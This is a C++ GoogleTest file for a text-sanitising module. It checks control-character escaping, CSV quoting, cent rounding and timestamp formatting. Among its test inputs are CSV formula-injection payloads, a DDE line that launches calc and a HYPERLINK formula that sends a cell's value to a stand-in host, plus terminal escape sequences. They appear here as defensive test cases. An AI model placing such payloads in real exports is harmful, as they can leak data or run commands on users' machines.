#include "recoup/core/safe_text.h"

#include <gtest/gtest.h>

#include "recoup/core/exact.h"
#include "recoup/core/time.h"

namespace recoup {
namespace {

TEST(SafeTextTest, EscapesEveryControlCharacter) {
  EXPECT_EQ(EscapeControls("a\x1b[31mred\x07"), "a\\x1b[31mred\\x07");
  EXPECT_EQ(EscapeControls(std::string("nul\0end", 7)), "nul\\x00end");
  EXPECT_EQ(EscapeControls("del\x7f"), "del\\x7f");
  EXPECT_EQ(EscapeControls("line\nnext\ttab\rcr"), "line\\x0anext\\x09tab\\x0dcr");
  // C1 controls in UTF-8 (U+009B is a one-byte CSI on some terminals).
  EXPECT_EQ(EscapeControls("x\xC2\x9B"
                           "2J"),
            "x\\u009b2J");
  // Printable UTF-8 is kept: U+00E9 and U+00A0 are not controls.
  EXPECT_EQ(EscapeControls("caf\xC3\xA9 \xC2\xA0"), "caf\xC3\xA9 \xC2\xA0");
  EXPECT_EQ(EscapeControls("plain arn:aws:kms:us-east-1:111122223333:key/1"),
            "plain arn:aws:kms:us-east-1:111122223333:key/1");
}

TEST(SafeTextTest, TextFilesKeepLineBreaksAndTabs) {
  EXPECT_EQ(EscapeControls("a\nb\tc\x1b]0;title\x07\r", true), "a\nb\tc\\x1b]0;title\\x07\\x0d");
}

TEST(SafeTextTest, FormulaLeads) {
  for (const char* s : {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"}) {
    EXPECT_TRUE(IsFormulaLead(s)) << s;
  }
  for (const char* s : {"", "Decrypt", "1-2", "a=b", " =x", "'x"}) {
    EXPECT_FALSE(IsFormulaLead(s)) << s;
  }
}

TEST(SafeTextTest, CsvTextNeutralisesFormulasAndKeepsTheValue) {
  EXPECT_EQ(CsvText("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(CsvText("+cmd|'/C calc'!A0"), "'+cmd|'/C calc'!A0");
  EXPECT_EQ(CsvText("-2+3"), "'-2+3");
  EXPECT_EQ(CsvText("@SUM(1)"), "'@SUM(1)");
  EXPECT_EQ(CsvText("\t=1"), "'\\x09=1");
  EXPECT_EQ(CsvText("\r=1"), "'\\x0d=1");
  EXPECT_EQ(CsvText("Decrypt"), "Decrypt");
  EXPECT_EQ(CsvText("us-east-1"), "us-east-1");
  EXPECT_EQ(CsvText("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvText("two\nlines\x1b"), "two\\x0alines\\x1b");
  EXPECT_EQ(CsvText(""), "");
  EXPECT_EQ(CsvText(" padded"), "\" padded\"");
}

TEST(SafeTextTest, CsvQuoteOnlyQuotes) {
  EXPECT_EQ(CsvQuote("-12.5"), "-12.5");
  EXPECT_EQ(CsvQuote("cur charges, us-east-1"), "\"cur charges, us-east-1\"");
  EXPECT_EQ(CsvQuote("say \"x\""), "\"say \"\"x\"\"\"");
}

TEST(SafeTextTest, MoneyInCentsRoundsHalfUp) {
  EXPECT_EQ(FormatCents(Ratio(12345, 1000)), "12.35");  // 12.345
  EXPECT_EQ(FormatCents(Ratio(12344999, 1000000)), "12.34");
  EXPECT_EQ(FormatCents(Ratio(1, 200)), "0.01");  // 0.005
  EXPECT_EQ(FormatCents(Rational(0)), "0.00");
  EXPECT_EQ(FormatCents(Ratio(3, 1)), "3.00");
  EXPECT_EQ(FormatUsd(Ratio(12345, 1000)), "12.345");
}

TEST(SafeTextTest, OneTimeFormatWithMillisecondsWhereTheInstantHasThem) {
  EXPECT_EQ(FormatTimestamp(1760942880000, true), "2025-10-20T06:48:00Z");
  EXPECT_EQ(FormatTimestamp(1760942880123, true), "2025-10-20T06:48:00.123Z");
  EXPECT_EQ(FormatTimestamp(1760942880007, true), "2025-10-20T06:48:00.007Z");
  EXPECT_EQ(FormatTimestamp(1760942880000), "2025-10-20T06:48:00Z");
}

}  // namespace
}  // namespace recoup
